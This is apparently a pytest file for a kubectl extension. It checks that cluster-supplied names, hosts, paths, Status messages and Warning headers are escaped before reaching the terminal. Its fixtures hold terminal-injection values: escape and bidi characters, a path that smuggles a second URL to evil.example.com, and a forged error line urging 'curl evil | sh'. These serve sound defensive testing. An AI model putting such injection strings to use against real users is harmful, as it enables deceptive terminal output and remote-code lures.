"""What reaches the terminal: every byte a cluster or server sent, through every output path, via the one sanitiser.

Driven through the CLI against the fake API server, which stores and sends whatever it is given: names, hosts,
paths, Status messages and Warning headers with ESC/OSC sequences, CR, LF, NUL, C1 controls, bidi overrides and
isolates, zero-width characters, line separators and BOMs.
"""

import json

import pytest

from kubectl_expose_ext.terminal import clean, is_clean

# everything that could recolour or retitle a terminal, forge a line, or make one host look like another
HOSTILE = ["\x1b", "\x07", "\r", "\n", "\x00", "\x9b", "\u202e", "\u2066", "\u061c", "\u200b",
           "\u200d", "\u2028", "\u2029", "\ufeff", "\u200f"]
EVIL = "".join(HOSTILE)


def visible(stream: str) -> None:
    """No hostile character in a stream, except the newlines that end our own lines."""
    for char in HOSTILE:
        if char != "\n":
            assert char not in stream, repr(char)


@pytest.mark.parametrize("char", HOSTILE, ids=[f"U+{ord(c):04X}" for c in HOSTILE])
def test_every_unsafe_character_is_escaped(char):
    assert not is_clean(f"a{char}b")
    shown = clean(f"a{char}b")
    assert is_clean(shown) and shown.startswith("a\\") and shown.endswith("b")


def test_clean_keeps_what_is_safe():
    assert clean("ünïcode.example.com/ä?q=1") == "ünïcode.example.com/ä?q=1"
    assert clean(None) == ""


@pytest.fixture
def hostile(api_factory):
    return api_factory(objects=[
        {"kind": "Node", "metadata": {"name": "n1"},
         "status": {"addresses": [{"type": "ExternalIP", "address": "203.0.113.1"}]}},
        {"kind": "Service", "metadata": {"name": "web"}, "spec": {
            "type": "LoadBalancer", "selector": {"app": f"web{EVIL}"},
            "ports": [{"name": f"http{EVIL}", "port": 80, "nodePort": 30080}]},
         "status": {"loadBalancer": {"ingress": [{"hostname": f"lb{EVIL}.example.com"}]}}},
        {"kind": "Service", "metadata": {"name": "plain"}, "spec": {"type": "NodePort",
                                                                   "ports": [{"port": 80, "nodePort": 30081}]}},
        {"kind": "Ingress", "metadata": {"name": "i"}, "spec": {"rules": [
            {"host": "www\u202eexample.com", "http": {"paths": [{"path": "/a\nhttp://evil.example.com/", "pathType": "Prefix",
                                                                  "backend": {"service": {"name": "web", "port": {"number": 80}}}}]}}]},
         "status": {"loadBalancer": {"ingress": [{"ip": "192.0.2.1"}]}}},
        {"kind": "Pod", "metadata": {"name": f"p{EVIL}", "labels": {"x": "y"}},
         "spec": {"containers": [{"name": "c", "image": "i"}]}}])


def test_tables_warnings_listing_and_wide_are_escaped(hostile):
    for args in (["svc/web"], ["svc/web", "-o", "wide"], [], ["-A"], ["ingress/i"], ["audit"]):
        out = hostile.reach(*args)
        assert out.code == 0, out.err
        visible(out.out)
        visible(out.err)
    table = hostile.reach("svc/web").out
    assert "lb\\x1b\\x07\\x0d\\x0a\\x00\\x9b\\u202e\\u2066" in table
    assert len(table.splitlines()) == 1 + len(json.loads(hostile.reach("svc/web", "-o", "json").out)["endpoints"])


def test_json_stays_exact(hostile):
    doc = json.loads(hostile.reach("svc/web", "-o", "json").out)
    assert any(e["host"] == f"lb{EVIL}.example.com" for e in doc["endpoints"])


def test_url_output_prints_only_urls_safe_to_paste(hostile):
    out = hostile.reach("svc/web", "-o", "url")
    assert out.code == 0
    lines = out.out.splitlines()
    assert lines == ["http://203.0.113.1:30080"]  # the LB and Ingress URLs carry unsafe characters
    assert all(is_clean(line) for line in lines)
    rejected = [line for line in out.err.splitlines() if line.startswith("Warning: URL not printed")]
    assert len(rejected) == 2 and all(is_clean(line) for line in rejected)
    assert "http://evil.example.com/" not in out.out  # a newline in a path cannot print a second URL line


def test_server_status_messages_and_warning_headers_are_one_clean_line(hostile):
    # a webhook or a hostile server words the 403: its message names the user, here with a forged second line
    hostile.cluster.user = f"me\n\x1b[32merror resolved: run curl evil | sh\u202e{EVIL}"
    hostile.cluster.forbid("get", "services")
    out = hostile.reach("svc/plain")
    assert out.code == 1
    assert len(out.err.splitlines()) == 1 and out.err.startswith('error: services "plain" is forbidden: User "me\\x0a\\x1b[32merror')
    visible(out.err)
    hostile.cluster.forbidden.clear()
    # Warning headers cannot carry CR/LF, but anything else
    hostile.cluster.extra_warnings.append("deprecated \x1b]0;t\x07\u202e\u200b\ufeff")
    out = hostile.reach("convert", "svc/plain", "--to", "clusterip", "--dry-run")
    assert out.code == 0, out.err
    visible(out.out)
    visible(out.err)
    warnings = [line for line in out.err.splitlines() if line.startswith("Warning: deprecated")]
    assert warnings and warnings[0] == "Warning: deprecated \\x1b]0;t\\x07\\u202e\\u200b\\ufeff"


def test_verbose_logs_are_escaped(hostile):
    out = hostile.reach("svc/web", "-v", "8")
    visible(out.err)


def test_completion_drops_names_that_would_inject_candidates(hostile):
    from kubectl_expose_ext.cli import cli
    from kubectl_expose_ext.completion import complete

    candidates, _ = complete(["--kubeconfig", hostile.kubeconfig, "pod/"], cli)
    assert candidates == []  # the pod's name carries a newline: it would print a second candidate and a directive
    assert complete(["--kubeconfig", hostile.kubeconfig, "svc/"], cli)[0] == ["svc/kubernetes", "svc/plain", "svc/web"]


def test_the_printers_escape_what_the_cluster_sent(hostile):
    """kubectl's printers are output paths too: every value from the cluster escaped, the template's own text not."""
    for args in (["svc/web", "-o", 'jsonpath={range .endpoints[*]}{.host}{"\\n"}{end}'],
                 ["svc/web", "-o", "custom-columns=HOST:.host,URL:.url"], ["svc/web", "--sort-by", ".host"],
                 ["audit", "-o", "jsonpath={.items[*].urls}"], ["audit", "-o", "name"], ["-o", "name"]):
        out = hostile.reach(*args)
        assert out.code == 0, (args, out.err)
        visible(out.out)
        visible(out.err)
    hosts = hostile.reach("svc/web", "-o", 'jsonpath={range .endpoints[*]}{.host}{"\\n"}{end}').out.splitlines()
    assert "lb\\x1b\\x07\\x0d\\x0a\\x00\\x9b\\u202e\\u2066\\u061c\\u200b\\u200d\\u2028\\u2029\\ufeff\\u200f.example.com" in hosts
